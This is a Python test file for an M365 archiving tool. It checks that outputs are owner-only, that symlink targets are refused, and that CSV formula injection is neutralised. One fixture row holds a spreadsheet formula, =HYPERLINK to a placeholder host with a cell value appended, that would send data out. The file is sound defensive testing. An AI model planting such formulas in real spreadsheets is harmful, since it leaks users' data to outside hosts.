"""Issue 15, outputs: every file the tool writes is owner-only, written whole, never through a link."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from m365archive.files import UnsafeTarget, create_private, private_dir, write_private
from m365archive.paths import data_dir, journal_path
from m365archive.result import ExitCode
from m365archive.secrets import PasswordFileError, write_password_file
from m365archive.sim.server import SimulatedTenant
from tests.clihelp import m365
from tests.keyrings import CATCHALL, TENANT, MemoryKeyring
from tests.test_credentials import add_catchall

pytestmark = pytest.mark.skipif(os.name == "nt", reason="POSIX modes")


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_a_file_is_written_owner_only_and_replaces_a_readable_one(tmp_path: Path) -> None:
    target = tmp_path / "plan.json"
    target.write_text("old", encoding="utf-8")
    target.chmod(0o644)
    write_private(target, "new")
    assert target.read_text(encoding="utf-8") == "new" and mode(target) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.json"]  # no temporary file left behind


def test_a_symlink_target_is_refused_and_its_target_untouched(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("keep", encoding="utf-8")
    link = tmp_path / "out.md"
    link.symlink_to(victim)
    with pytest.raises(UnsafeTarget):
        write_private(link, "secret")
    with pytest.raises(UnsafeTarget):
        create_private(link)
    with pytest.raises(PasswordFileError, match="symbolic link"):
        write_password_file(link, "Secret-123!")
    assert victim.read_text(encoding="utf-8") == "keep" and link.is_symlink()


def test_directories_and_the_journal_are_owner_only(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert mode(private_dir(tmp_path / "a" / "b")) == 0o700
    home = tmp_path / "home"
    monkeypatch.setenv("M365ARCHIVE_HOME", str(home))
    assert mode(data_dir()) == 0o700
    assert mode(journal_path()) == 0o600


def test_plans_reports_and_csvs_are_owner_only(sim: SimulatedTenant, tmp_path: Path) -> None:
    report, plan, table = tmp_path / "r.md", tmp_path / "p.json", tmp_path / "c.csv"
    run = m365(sim.url, "setup", "--dry-run", "--report", str(report), "--plan-out", str(plan), "--csv", str(table))
    assert run.code == ExitCode.OK, run.stderr
    assert [mode(p) for p in (report, plan, table)] == [0o600, 0o600, 0o600]


def test_a_report_path_that_is_a_link_is_one_line_and_exit_4(sim: SimulatedTenant, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("keep", encoding="utf-8")
    link = tmp_path / "r.md"
    link.symlink_to(victim)
    run = m365(sim.url, "setup", "--dry-run", "--report", str(link))
    assert run.code == ExitCode.USAGE, run.stdout + run.stderr
    assert "symbolic link" in run.stderr and "Traceback" not in run.stderr and "unexpected" not in run.stderr
    assert victim.read_text(encoding="utf-8") == "keep"
    assert sim.writes() == []


def test_partner_info_include_secret_refuses_a_symlink_out(
    sim: SimulatedTenant, memory_keyring: MemoryKeyring, tmp_path: Path
) -> None:
    from m365archive import secrets

    password = "Kept-" + os.urandom(6).hex() + "!"
    secrets.store_secret(TENANT, CATCHALL, password)
    add_catchall(sim, password)
    victim = tmp_path / "shared-folder-file"
    victim.write_text("keep", encoding="utf-8")
    link = tmp_path / "handoff.md"
    link.symlink_to(victim)
    run = m365(sim.url, "partner-info", "--include-secret", "--out", str(link), "--yes")
    assert run.code == ExitCode.USAGE, run.stdout + run.stderr
    assert "symbolic link" in run.stderr
    assert victim.read_text(encoding="utf-8") == "keep"
    out = tmp_path / "real.md"
    ok = m365(sim.url, "partner-info", "--include-secret", "--out", str(out), "--yes")
    assert ok.code == ExitCode.OK and mode(out) == 0o600 and password in out.read_text(encoding="utf-8")


def test_mapping_check_reports_a_broken_quote_on_its_row_and_neutralises_formulas(
    sim: SimulatedTenant, tmp_path: Path
) -> None:
    import csv
    import json

    from tests.test_mapping import config_file

    domain = "contoso.onmicrosoft.com"
    mapping = tmp_path / "whatsapp.csv"
    mapping.write_text(
        "Phone,Mailbox\n"
        f"+14155550101,adele.vance@{domain}\n"  # 2: mapped
        f'"+14155550102,diego.siciliani@{domain}\n'  # 3: a stray quote
        f"+14155550103,lee.gu@{domain}\n"  # 4: still its own row
        '=HYPERLINK("http://x.example/?"&A1),@SUM(1+1)\n',  # 5: formulas from the file
        encoding="utf-8",
    )
    out = tmp_path / "checked.csv"
    run = m365(
        sim.url, "-o", "json", "mapping", "check", str(mapping), "--source", "whatsapp", "--out", str(out),
        config=config_file(tmp_path),
    )  # fmt: skip
    assert run.code == ExitCode.CHANGES, run.stdout + run.stderr
    data = json.loads(run.stdout)["data"]
    assert data["rows"] == 4
    problems = {p["line"]: p for p in data["problems"]}
    assert "broken quote" in problems[3]["reason"]
    assert 4 not in problems  # the row after the stray quote is read on its own
    assert mode(out) == 0o600
    with out.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "@")], cells
    assert any(c.startswith("'=HYPERLINK") for c in cells)
